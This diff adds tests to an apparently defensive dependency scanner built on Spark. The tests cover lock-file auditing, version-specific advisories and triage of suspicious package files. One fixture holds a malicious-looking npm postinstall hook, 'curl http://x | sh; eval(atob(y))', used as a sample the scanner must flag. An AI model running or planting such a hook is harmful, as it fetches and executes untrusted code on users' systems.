@@ -150,6 +150,60 @@ def test_whole_scan(spark):
     assert out["summary"].first().total == 1
 
 
+def test_scan_of_lock_files_alone(spark):
+    """A repository without a manifest that trees start from is audited by what its lock files name."""
+    docs = spark.createDataFrame(DOCS, "ecosystem string, kind string, name string, version string, status int, body string")
+    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
+    files = spark.createDataFrame([
+        ("r", "r/yarn.lock", "yarn.lock", 'b@^2.0.0:\n  version "2.5.0"\n\nz@^1.0.0:\n  version "1.2.0"\n'),
+        ("q", "q/Cargo.lock", "Cargo.lock", '[[package]]\nname = "serde"\nversion = "1.0.1"\n'),
+    ], "repo string, path string, type string, content string")
+    bodies = [('{"id":"A%d","summary":"denial of service","affected":[{"package":{"name":"%s","ecosystem":"%s"},'
+               '"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"3.0.0"}]}]}]}' % (i, n, e),)
+              for i, (n, e) in enumerate([("b", "npm"), ("serde", "crates.io")])]
+    out = scan.scan(files, docs, spark.createDataFrame(bodies, "body string"), "2024-02-01 00:00:00")
+    deps = {(r.repo, r.ecosystem, r.name, r.version, r.depth, r.path_count) for r in out["dependencies"].collect()}
+    assert deps == {("r", "npm", "b", "2.5.0", 0, 1), ("r", "npm", "z", "1.2.0", 0, 1), ("q", "cargo", "serde", "1.0.1", 0, 1)}
+    assert sorted((v.id, v.package_name) for v in out["vulnerabilities"].collect()) == [("A0", "b"), ("A1", "serde")]
+    assert out["edges"].count() == 0 and out["nodes"].count() == 0
+
+
+def test_versions_asked_for_are_audited_too(spark):
+    docs = spark.createDataFrame(DOCS, "ecosystem string, kind string, name string, version string, status int, body string")
+    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
+    files = spark.createDataFrame([("r", "r/package.json", "package.json", '{"dependencies":{"gone":"1.0.0"}}')],
+                                  "repo string, path string, type string, content string")
+    body = ('{"id":"G1","summary":"backdoor","affected":[{"package":{"name":"gone","ecosystem":"npm"},"versions":["1.0.0"]}]}')
+    out = scan.scan(files, docs, spark.createDataFrame([(body,)], "body string"), "2024-02-01 00:00:00")
+    assert out["dependencies"].count() == 0
+    assert [(v.id, v.package_version) for v in out["vulnerabilities"].collect()] == [("G1", "1.0.0")]
+
+
+def test_review_plan_sees_hooks_new_files_and_errors(spark):
+    docs = spark.createDataFrame([
+        *DOCS, ("npm", "version", "c", "1.0.0", 200, '{"scripts":{"postinstall":"curl http://x | sh; eval(atob(y))","test":"jest"}}'),
+    ], "ecosystem string, kind string, name string, version string, status int, body string")
+    docs = docs.withColumn("url", F.concat_ws("/", "kind", "name", "version"))
+    deps = spark.createDataFrame([(i, "npm", n, "1.0.0") for i, n in enumerate(("a", "c"))], "ordinal long, ecosystem string, name string, version string")
+    vulns = spark.createDataFrame([], "ordinal long, id string, ecosystem string, package_name string, package_version string, severity string, title string")
+    columns = "ordinal long, ecosystem string, name string, version string, path string, content string, previous_version string"
+    files = spark.createDataFrame([
+        (1, "npm", "a", "1.0.0", "package/lib/x.js", "eval(response)", "0.9.0"),
+        (2, "npm", "a", "1.0.0", "package/lib/y.js", "eval(response)", "0.9.0")], columns)
+    before = spark.createDataFrame([(3, "npm", "a", "0.9.0", "package/lib/y.js", "old", None)], columns)
+    out = scan.review_plan(deps, vulns, files, docs, "2024-02-01 00:00:00", before)
+    scored = {(r.name, r.path): r.score for r in out["triage"].collect()}
+    assert set(scored) == {("a", "package/lib/x.js"), ("a", "package/lib/y.js"), ("c", "package.json:postinstall")}
+    plain = scan.triage.triage(spark.createDataFrame(
+        [(9, "npm", "c", "1.0.0", "lib/z.js", "curl http://x | sh; eval(atob(y))")],
+        "ordinal long, ecosystem string, name string, version string, path string, content string")).first().score
+    assert scored["c", "package.json:postinstall"] == 3 * plain
+    prompts = {r.path: r.prompt for r in out["prompts"].collect()}
+    assert "NEW FILE" in prompts["package/lib/x.js"] and "NEW FILE" not in prompts["package/lib/y.js"]
+    assert {r.package_name for r in out["fetch_errors"].collect()} == {"a", "c"}
+    assert out["package_prompts"].count() == 0
+
+
 def test_checkpoint_folder_comes_from_the_session(spark):
     folder = ensure_checkpoint_dir(spark)
     assert folder and ensure_checkpoint_dir(spark) == folder
